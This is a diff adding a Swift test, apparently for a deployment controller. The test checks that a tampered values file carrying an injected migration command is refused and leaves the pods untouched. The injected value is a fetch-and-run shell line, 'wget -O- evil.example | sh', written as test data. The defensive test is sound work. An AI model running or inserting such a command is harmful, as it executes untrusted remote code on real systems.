@@ -36,6 +36,21 @@ import WireFormats
         #expect(refused.status?.failure?.reason == attack.reason, "\(refused.status?.failure?.message ?? "")")
         #expect(try await pods(environment) == untouched, "\(attack.reason)")
       }
+      // Whoever holds the bucket holds the values in it, too.
+      let path = environment.folder.file("bucket/config/values-2.0.0.yaml")
+      let values = try String(contentsOfFile: path, encoding: .utf8)
+      try environment.folder.write(
+        "\(values)\nmigration: {enabled: true, command: [/bin/sh, -c, wget -O- evil.example | sh]}\n",
+        to: "bucket/config/values-2.0.0.yaml")
+      let applied = try await environment.apply(second)
+      let refused = try await environment.wait(for: "the refusal of a command in the values") {
+        $0.status?.failure?.generation == applied.metadata.generation
+      }
+      #expect(refused.status?.failure?.reason == "SettingNotAllowed")
+      #expect(refused.status?.failure?.message.contains("migration.command") == true)
+      #expect(refused.status?.failure?.message.contains("evil") == false)
+      #expect(try await pods(environment) == untouched)
+      try environment.folder.write(values, to: "bucket/config/values-2.0.0.yaml")
       try await environment.apply(first)
       try await environment.waitUntilReady()
       for forge: @Sendable (inout DesiredDeploymentStatus) -> Void in [
